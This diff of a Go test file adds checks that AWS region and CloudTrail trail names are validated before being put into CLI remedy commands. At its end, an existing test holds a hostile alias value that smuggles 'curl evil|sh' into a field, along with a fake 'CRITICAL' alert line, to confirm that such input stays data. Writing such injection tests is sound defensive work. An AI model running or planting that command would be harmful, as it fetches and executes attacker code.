@@ -52,6 +52,43 @@ func TestArgument(t *testing.T) {
 	}
 }
 
+func TestARegionOfACommandIsOneOrRefused(t *testing.T) {
+	for name, tt := range map[string]struct{ region, want string }{
+		"a Region":                 {"us-isob-east-1", " --region us-isob-east-1"},
+		"none":                     {"", ""},
+		"another kind of name":     {"arn:aws:kms:us-east-1:111122223333:alias/x", " --region ODD-REGION"},
+		"capital letters":          {"EU-WEST-1", " --region ODD-REGION"},
+		"as long as can be":        {strings.Repeat("a", 32), " --region " + strings.Repeat("a", 32)},
+		"longer than any there is": {strings.Repeat("a", 33), " --region ODD-REGION"},
+	} {
+		if got := awsCLI("kms list-keys", tt.region); got != "aws kms list-keys"+tt.want {
+			t.Errorf("%s: %s", name, got)
+		}
+	}
+}
+
+func TestATrailIsNamedSoThatTheCommandIsShownWhole(t *testing.T) {
+	arn := func(name string) string { return "arn:aws-us-gov:cloudtrail:us-gov-west-1:111122223333:trail/" + name }
+	longest := strings.Repeat("t", 128)
+	for name, tt := range map[string]struct{ id, want string }{
+		"by its ARN":                    {arn("main"), arn("main")},
+		"by a long ARN":                 {arn(strings.Repeat("t", 81)), arn(strings.Repeat("t", 81))},
+		"by its name when that is long": {arn(longest), longest},
+		"not by what is no name":        {arn(longest + "t"), "TRAIL"},
+		"not at all":                    {"", "TRAIL"},
+	} {
+		tr := trail{id: tt.id, region: strings.Repeat("r", 32)}
+		if got := tr.argument(); got != tt.want {
+			t.Errorf("%s: %s", name, got)
+		}
+		for _, line := range tr.selectorRemedy() {
+			if len(line) > 300 {
+				t.Errorf("%s: %d bytes: %s", name, len(line), line)
+			}
+		}
+	}
+}
+
 func TestAnAttackersAliasStaysData(t *testing.T) {
 	const evil = "alias/x';curl evil|sh;'\nCRITICAL: call 555-0100"
 	found, _ := NewJudge(Settings{}).Event(newWorld().context(), decode(t, record("UpdateAlias",
